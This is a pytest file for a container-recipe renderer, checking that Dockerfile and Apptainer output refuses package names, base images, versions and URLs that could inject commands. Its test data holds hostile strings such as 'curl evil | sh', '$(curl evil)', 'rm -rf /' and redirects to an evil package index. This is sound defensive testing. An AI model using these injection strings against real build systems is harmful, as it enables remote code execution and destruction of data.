"""Rendering is safe on its own: a value that reaches a recipe never adds a line or runs a command.

The manifest is validated when it is loaded; these stacks bypass that (model_copy does not validate),
as a stack built in code or a future field would, and check that rendering refuses them itself.
"""

from __future__ import annotations

from pathlib import Path

import hpccm.config
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import InputError
from repro.image.blocks import safe
from repro.image.render import RenderOptions, render_apptainer, render_dockerfile
from repro.manifest import load_stack
from repro.manifest.schema import Packages

ROOT = Path(__file__).resolve().parents[2]
CPU = load_stack(ROOT / "stacks" / "cpu-tf215.yaml").stack
GPU = load_stack(ROOT / "stacks" / "tf215-cuda122.yaml").stack
HOSTILE = ["six\nRUN curl evil | sh", "$(curl evil)", "`id`", "six;id", "six && id", "six'", 'six"', "six \\",
           "six\r\nRUN id", "six id"]


def with_packages(apt=(), pip=()):
    return CPU.model_copy(update={"packages": Packages.model_construct(apt=list(apt), pip=list(pip))})


@pytest.mark.parametrize("value", [*HOSTILE, "Capital", "-leading-dash", "--option"])
def test_apt_package_that_could_inject_is_refused_naming_the_field(value):
    with pytest.raises(InputError, match=r"packages\.apt\[1\]"):
        render_dockerfile(with_packages(apt=["jq", value]))


@pytest.mark.parametrize("value", [*HOSTILE, "--index-url=http://evil/simple", "-e .", "git+https://x/y.git",
                                   "./local", "six ; rm -rf /", "six==1.0 --pre", "six@https://evil/x.whl"])
def test_pip_requirement_that_could_inject_or_redirect_is_refused(value):
    with pytest.raises(InputError, match=r"packages\.pip\[0\]"):
        render_apptainer(with_packages(pip=[value]))


def test_plain_pins_render_inertly_in_both_formats():
    s = with_packages(apt=["jq", "libfoo2=1.2-3ubuntu1"], pip=["six==1.16.0", "numpy[extra]>=1.23,<2"])
    docker = render_dockerfile(s)
    assert "        jq \\\n" in docker and "        libfoo2=1.2-3ubuntu1 \\\n" in docker
    assert "install scikit-learn==1.3.2 six==1.16.0 'numpy[extra]>=1.23,<2'\n" in docker  # hpccm quotes pip names
    assert "six==1.16.0" in render_apptainer(s)


@pytest.mark.parametrize("base", ["debian:12\nRUN id", "debian:12 AS evil", "$(id):1", "debian:`id`",
                                  "Debian:12", "debian:12;id"])
def test_base_image_that_could_inject_is_refused(base):
    with pytest.raises(InputError, match="base_image"):
        render_dockerfile(CPU.model_copy(update={"base_image": base}))


@pytest.mark.parametrize(("option", "value"), [
    ("pip_index", "https://pypi.site/simple\nRUN id"), ("pip_index", "https://user:secret@pypi.site/simple"),
    ("extra_index", "https://x/$(id)"), ("pip_index", "ftp://pypi.site/"), ("ofed_mirror", "http://m/`id`"),
    ("ofed_url", "http://m/x.tgz; id"), ("ofed_tarball", "../mofed.tgz"), ("apptainer_bootstrap", "docker\n%post"),
])
def test_site_option_that_could_inject_or_leak_is_refused(option, value):
    stack = GPU if option.startswith("ofed") else CPU
    for render in (render_dockerfile, render_apptainer):
        with pytest.raises(InputError):
            render(stack, RenderOptions(**{option: value}))


@pytest.mark.parametrize(("field", "update"), [
    ("horovod.version", {"horovod": CPU.horovod.model_copy(update={"version": "0.28.1 && id"})}),
    ("tensorflow.version", {"tensorflow": CPU.tensorflow.model_copy(update={"version": "2.15.1\nRUN id"})}),
    ("tensorflow.package", {"tensorflow": CPU.tensorflow.model_copy(update={"package": "--pre tensorflow"})}),
    ("container.ssh_port", {"container": CPU.container.model_copy(update={"ssh_port": "22; id"})}),
])
@pytest.mark.filterwarnings("ignore::UserWarning")  # pydantic warns when it hashes the bad port
def test_versions_and_ports_that_could_inject_are_refused(field, update):
    with pytest.raises(InputError, match=field.replace(".", r"\.")):
        render_dockerfile(CPU.model_copy(update=update))


def test_gpu_pins_that_could_inject_are_refused():
    with pytest.raises(InputError, match="nccl"):
        render_dockerfile(GPU.model_copy(update={"nccl": "2.19.3 libevil"}))
    with pytest.raises(InputError, match="ofed"):
        render_dockerfile(GPU.model_copy(update={"ofed": "5.8-3.0.7.0\nRUN id"}))


_TEXT = st.text(alphabet=st.sampled_from(list("abz09+.-=:~_ \n\r\t$`;&|<>()'\"\\/*?!{}[]#%@A")), min_size=1,
                max_size=24)


@settings(max_examples=150, deadline=None)
@given(apt=_TEXT, pip=_TEXT)
def test_any_package_text_is_refused_or_adds_exactly_its_own_line(apt, pip):
    baseline = render_dockerfile(with_packages(apt=["jq"], pip=["six"])).count("\n")
    try:
        text = render_dockerfile(with_packages(apt=[apt], pip=[pip]))
    except InputError:
        return
    for value in (apt, pip):
        assert not set(value) & set("\n\r\t $`;&|<>()'\"\\{}#"), value
    assert text.count("\n") == baseline  # the same lines as a benign pair: nothing was added


def test_rendering_leaves_hpccm_global_settings_as_it_found_them():
    hpccm.config.set_container_format("singularity")
    hpccm.config.set_linux_distro("centos8")
    hpccm.config.set_working_directory("/elsewhere")
    try:
        docker = render_dockerfile(GPU)
        assert hpccm.config.get_format() == "singularity"
        assert hpccm.config.g_linux_distro == hpccm.config.linux_distro.CENTOS
        assert hpccm.config.g_wd == "/elsewhere"
    finally:
        hpccm.config.set_container_format("docker")
        hpccm.config.set_linux_distro("ubuntu")
        hpccm.config.set_working_directory("/var/tmp")
    assert render_dockerfile(GPU) == docker  # what a render makes does not depend on the state it found


def test_checks_accept_what_real_stacks_use():
    assert safe.image_reference("nvidia/cuda:12.2.2-cudnn8-devel-ubuntu22.04") and safe.image_reference(
        "registry.site:5000/team/cuda:10.0-cudnn7-devel-ubuntu18.04")
    assert safe.apt_package("libnccl2=2.5.6-1+cuda10.0") and safe.pip_requirement("tensorflow-gpu==1.14.0")
    assert safe.url("https://pypi.site:8443/simple/", "--pip-index")
